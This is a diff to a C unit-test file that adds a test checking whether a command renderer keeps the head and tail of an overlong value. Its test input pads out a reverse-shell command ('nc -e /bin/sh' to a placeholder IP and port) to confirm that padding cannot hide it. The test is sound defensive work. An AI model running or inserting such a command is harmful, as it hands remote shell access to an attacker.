@@ -49,6 +49,23 @@ static void test_render_escapes(void **st) {
     json_decref(ev);
 }
 
+/* A huge value keeps its head and its tail: padding cannot hide the end. */
+static void test_render_long(void **st) {
+    (void)st;
+    char cmd[6000];
+    memset(cmd, 'A', 5000);
+    snprintf(cmd + 5000, sizeof cmd - 5000, "; nc -e /bin/sh 198.51.100.7 4444");
+    memcpy(cmd, "echo ", 5);
+    json_t *ev = cmd_event(cmd, 1);
+    rbuf b = {0};
+    assert_int_equal(render_event(&b, ev, false), 0);
+    assert_non_null(strstr(b.s, "nc -e /bin/sh 198.51.100.7 4444"));
+    assert_non_null(strstr(b.s, "bytes cut"));
+    assert_true(b.len < RENDER_VALUE_MAX + 200);
+    rbuf_free(&b);
+    json_decref(ev);
+}
+
 /* Masked renderings (cache keys) ignore pids, temp names and random ids. */
 static void test_render_mask(void **st) {
     (void)st;
@@ -276,6 +293,7 @@ int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_render_escapes),
         cmocka_unit_test(test_render_mask),
+        cmocka_unit_test(test_render_long),
         cmocka_unit_test(test_rules_only),
         cmocka_unit_test(test_bad_prompt_dir),
         cmocka_unit_test(test_alloc_faults),
